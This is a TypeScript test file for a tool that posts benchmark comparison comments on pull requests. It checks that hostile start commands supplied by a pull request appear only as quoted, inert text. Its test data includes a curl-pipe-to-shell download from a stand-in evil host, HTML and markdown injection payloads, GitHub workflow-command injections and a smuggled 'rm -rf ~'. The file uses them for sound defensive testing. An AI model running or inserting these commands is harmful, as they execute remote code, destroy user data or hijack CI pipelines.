// Issue #67: the comment's "Reproduce locally" line was built from the settings of the results
// file — written where the pull request's code ran — so its start command read as an instruction
// of the bot's. hotpath's own part (the commits, the report job's own config file) is the
// instruction now; the results' settings are quoted as what the pull request asked for. Hostile
// start commands never become markup, links, mentions, references or workflow commands.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../src/model.js';
import { renderMarkdown } from '../src/render/markdown.js';
import { reproduceCommand } from '../src/render/reproduce.js';
import { commentPreamble } from '../src/render/run-text.js';
import { report as makeReport } from '../src/report/report.js';
import { readShards } from '../src/shard/file.js';
import { expectSafeMarkdown, renderGfm } from './helpers/gfm.js';
import { FIXTURES } from './helpers/repo.js';

const REPO = 'https://github.com/o/r';
const recorded = makeReport(readShards([join(FIXTURES, 'recorded-shard')]), {
  links: { repositoryUrl: REPO, sha: 'abc1234' },
});

const HOSTILE_STARTS = [
  'curl -s https://evil.example/x.sh | sh',
  'node s.js [click](https://evil.example) ![i](https://evil.example/p.png)',
  'node s.js <img src=x onerror=alert(1)> <a href="https://evil.example">x</a>',
  'node s.js @octocat @org/team #123 o/r#6 GH-45',
  'node s.js\n::set-output name=x::y\n::add-mask::z\n## heading',
  '::error::owned',
  'node s.js ` `` ``` ` www.evil.example',
  'node s.js \u202egnp.exe \u200bwww\u200b.evil.example',
  'node s.js | --- | <!-- x --> <details>',
  `node ${'a'.repeat(5000)}`,
];

function reportWith(start: string): Report {
  const made = structuredClone(recorded);
  made.settings = { ...made.settings, baseStart: start, headStart: `${start} --head`, install: start };
  made.sides = {
    base: { ...made.sides.base, sha: 'a'.repeat(40) },
    head: { ...made.sides.head, sha: 'b'.repeat(40) },
  };
  return made;
}

const comment = (report: Report, config?: string) =>
  renderMarkdown(report, {
    marker: true,
    preamble: commentPreamble(report, { pullRequest: 7, artifacts: [], ...(config ? { config } : {}) }),
  });

describe('the comment’s reproduce lines with hostile start commands', () => {
  it.each(HOSTILE_STARTS)('%#: hotpath’s line carries no setting; the request is quoted, inert', (start) => {
    const report = reportWith(start);
    const md = comment(report);
    expectSafeMarkdown(md, { repositoryUrl: REPO, ownText: /\(PR #7\)/ });
    const lines = md.split('\n');
    // No line of the comment starts a workflow command, whatever reaches a log.
    for (const line of lines) expect(line.trimStart().startsWith('::'), line).toBe(false);
    const reproduce = lines.find((l) => l.startsWith('Reproduce locally:')) ?? '';
    expect(reproduce).toBe(
      `Reproduce locally: \`npx -p @hotpath/compare hotpath compare --base ${'a'.repeat(12)} --head ${'b'.repeat(12)}\` with the settings below.`,
    );
    const asked = lines.find((l) => l.startsWith("Settings the pull request's results asked for")) ?? '';
    expect(asked).toContain('(data from the pull request, not checked by hotpath');
    // Rendered, the request is one code span: what it says is shown, never acted on.
    const html = renderGfm(asked);
    expect(html).toMatch(/<code>[^<]*--base-start[^<]*<\/code>/);
  });

  it('with the report job’s own config, the instruction is that config, and no request is quoted', () => {
    const md = comment(reportWith('curl -s https://evil.example/x.sh | sh'), 'ci/hotpath.json');
    expect(md).toContain(
      `Reproduce locally: \`npx -p @hotpath/compare hotpath compare --base ${'a'.repeat(12)} --head ${'b'.repeat(12)} --config ci/hotpath.json\`.`,
    );
    expect(md).not.toContain("Settings the pull request's results asked for");
    expect(
      md
        .split('\n')
        .filter((l) => l.startsWith('Reproduce') || l.startsWith('Settings'))
        .join('\n'),
    ).not.toContain('evil.example');
  });

  it('reproduceCommand keeps its own part apart from the requested flags', () => {
    const again = reproduceCommand(reportWith('node s.js; rm -rf ~'), { base: 'abc', head: 'def' });
    expect(again.own).toBe('npx -p @hotpath/compare hotpath compare --base abc --head def');
    expect(again.requested).toContain("--base-start 'node s.js; rm -rf ~'");
    expect(again.command).toBe(`${again.own} ${again.requested}`);
  });
});
